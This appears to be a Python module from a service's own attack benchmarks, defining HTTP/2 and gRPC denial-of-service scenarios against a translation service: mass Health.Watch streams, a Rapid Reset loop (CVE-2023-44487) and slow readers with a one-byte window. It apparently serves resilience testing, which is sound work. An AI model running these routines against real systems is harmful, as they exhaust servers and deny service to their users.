"""Very many calls: some stay, some are cancelled immediately, and some leave their answers unread."""

from __future__ import annotations

import asyncio

from grpc_health.v1 import health_pb2
from hyperframe.frame import DataFrame, RstStreamFrame

from benchmarks.attacks.aim import Aim
from benchmarks.attacks.http2 import message
from translate_svc.rpc.servicer import SERVICE_NAME
from translate_svc.v1 import speech_translation_pb2 as pb

_WATCH = "/grpc.health.v1.Health/Watch"
_STREAM = f"/{SERVICE_NAME}/StreamingTranslate"
_TRANSLATE = f"/{SERVICE_NAME}/Translate"
_CANCEL = 8
_BATCH = 100
_TEXT = pb.TranslateRequest(
    text="I am going to Lyon by bus on Wednesday.",
    source_language="eng",
    targets=[pb.TargetSettings(language="spa", text=True, speech=True)],
).SerializeToString()


async def _watch(aim: Aim, calls: int) -> None:
    """Opens so many calls that nothing ever ends."""
    body = message(health_pb2.HealthCheckRequest().SerializeToString())
    async with aim.connection() as connection:
        for opened in range(0, calls, _BATCH):
            data = bytearray()
            for _ in range(min(_BATCH, calls - opened)):
                call, headers = connection.start_call(_WATCH)
                data += headers + DataFrame(call.stream_id, body, flags=["END_STREAM"]).serialize()
            await connection.write(bytes(data))
            aim.done["calls"] += _BATCH
        await connection.is_cut.wait()


async def watches_of_one(aim: Aim) -> None:
    """20,000 calls of Health.Watch, which needs no key, on one connection."""
    await aim.at_once(1, lambda: _watch(aim, 20_000))


async def watches_of_many(aim: Aim) -> None:
    """As many, on 20 connections."""
    await aim.at_once(20, lambda: _watch(aim, 1_000))


async def rapid_reset(aim: Aim) -> None:
    """Streams that are opened and reset immediately, on one connection (CVE-2023-44487)."""

    async def reset() -> None:
        async with aim.connection() as connection:
            while True:
                data = bytearray()
                for _ in range(_BATCH):
                    call, headers = connection.start_call(_STREAM, aim.key)
                    data += headers + RstStreamFrame(call.stream_id, _CANCEL).serialize()
                connection.calls.clear()
                await connection.write(bytes(data))
                aim.done["resets"] += _BATCH
                await asyncio.sleep(0)

    await aim.at_once(1, reset)


async def slow_readers(aim: Aim) -> None:
    """16 calls with speech of which never more than a byte is read."""

    async def read_slowly() -> None:
        async with aim.connection(window_bytes=1) as connection:
            call, headers = connection.start_call(_TRANSLATE, aim.key)
            await connection.write(headers)
            await connection.send_message(call, message(_TEXT), half_close=True)
            await call.ended.wait()
            aim.done[f"status {call.outcome}"] += 1

    await aim.at_once(16, read_slowly)
